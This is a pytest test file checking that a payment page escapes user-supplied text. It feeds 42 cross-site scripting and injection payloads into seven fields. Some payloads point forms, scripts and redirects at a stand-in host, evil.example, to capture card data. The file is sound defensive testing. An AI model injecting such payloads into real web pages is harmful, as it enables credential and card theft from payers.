"""No text that people type becomes markup on a payer's page (T04)."""

from __future__ import annotations

from collections.abc import Callable
from dataclasses import replace
from datetime import date

import pytest
from bs4 import BeautifulSoup

from handlers.firm import Firm
from handlers.payments.payer_page import PayerPage
from paypage.views import Mistake, Views, static_files
from tests.cast import FIRM
from tests.paypage.payer_house import PART_PAID, PARTIAL, RECEIPT

PAYLOADS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    "<img src=x:alert(alt) onerror=eval(src) alt=1>",
    '"><img src=x onerror=alert(1)>',
    "'><img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg/onload=alert`1`//",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<iframe src=javascript:alert(1)>",
    '<iframe srcdoc="<script>alert(1)</script>">',
    "<object data=javascript:alert(1)>",
    "<embed src=javascript:alert(1)>",
    "<a href=javascript:alert(1)>pay here</a>",
    '<a href="https://evil.example">pay here</a>',
    "<form action=https://evil.example><input name=card></form>",
    '"><form action=https://evil.example>',
    "</form><form action=https://evil.example method=get>",
    '" formaction="https://evil.example',
    '" autofocus onfocus="alert(1)',
    "' onmouseover='alert(1)",
    " onclick=alert(1) ",
    "<body onload=alert(1)>",
    "<base href=https://evil.example/>",
    "<meta http-equiv=refresh content=0;url=https://evil.example>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<style>*{display:none}</style>",
    '<p style="position:fixed;inset:0">',
    "</title><script>alert(1)</script>",
    "</style><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "<!--<script>alert(1)//--></script>",
    "--><script>alert(1)</script>",
    "<![CDATA[<script>alert(1)</script>]]>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "{{ firm }}{% include 'base.html' %}{{ 7*7 }}",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "\u2028<script>alert(1)</script>\u202e<img src=x onerror=alert(1)>",
    "`><script>alert(1)</script>",
]

Fill = Callable[[str], tuple[Firm, PayerPage, Mistake]]
_MISTAKE = Mistake("amount", "400", "Please enter an amount.")
FIELDS: dict[str, Fill] = {
    "firm": lambda text: (replace(FIRM, name=text, disclaimer="x"), PARTIAL, _MISTAKE),
    "disclaimer": lambda text: (replace(FIRM, disclaimer=text), PARTIAL, _MISTAKE),
    "payer": lambda text: (replace(FIRM, disclaimer="x"), replace(PARTIAL, payer_name=text), _MISTAKE),
    "invoice": lambda text: (replace(FIRM, disclaimer="x"), replace(PARTIAL, invoice_number=text), _MISTAKE),
    "message": lambda text: (replace(FIRM, disclaimer="x"), replace(PARTIAL, message=text), _MISTAKE),
    "typed": lambda text: (replace(FIRM, disclaimer="x"), PARTIAL, Mistake("amount", text, "Please.")),
    "sentence": lambda text: (replace(FIRM, disclaimer="x"), PARTIAL, Mistake("amount", "400", text)),
}
STATIC = static_files()


def shape(html: bytes) -> list[tuple[str, ...]]:
    """Every element with the names of its attributes, in order, and its depth: what a browser would build."""
    soup = BeautifulSoup(html, "html.parser")
    return [(str(len(list(element.parents))), element.name, *element.attrs) for element in soup.find_all(True)]


def pages(fill: Fill, text: str) -> list[bytes]:
    firm, page, mistake = fill(text)
    views = Views(firm, STATIC, sandbox=False)
    paid = replace(PART_PAID, invoice_number=page.invoice_number, payer_name=page.payer_name)
    return [
        views.pay(page, "nonce", date(2026, 11, 23), mistake),
        views.used_up(paid),
        views.receipt(
            replace(RECEIPT, payer_name=page.payer_name, invoice_number=page.invoice_number, disclaimer=firm.disclaimer)
        ),
        views.turned_away("ask_sender"),
        views.not_found,
    ]


@pytest.mark.parametrize("field", FIELDS)
def test_hostile_text_changes_no_element_and_no_attribute(field: str) -> None:
    """(T04) 42 payloads in each of 7 fields give the same tree as plain text."""
    plain = [shape(html) for html in pages(FIELDS[field], "plain text")]
    for payload in PAYLOADS:
        found = [shape(html) for html in pages(FIELDS[field], payload)]
        assert found == plain, payload


@pytest.mark.parametrize("field", FIELDS)
def test_hostile_text_is_shown_letter_by_letter(field: str) -> None:
    """(T04) Escaped once, not eaten and not twice."""
    for payload in PAYLOADS:
        soup = BeautifulSoup(pages(FIELDS[field], payload)[0], "html.parser")
        values = [str(element["value"]) for element in soup.find_all("input")]
        assert payload in soup.get_text() or payload in values


def test_there_are_enough_payloads() -> None:
    assert len(set(PAYLOADS)) >= 40
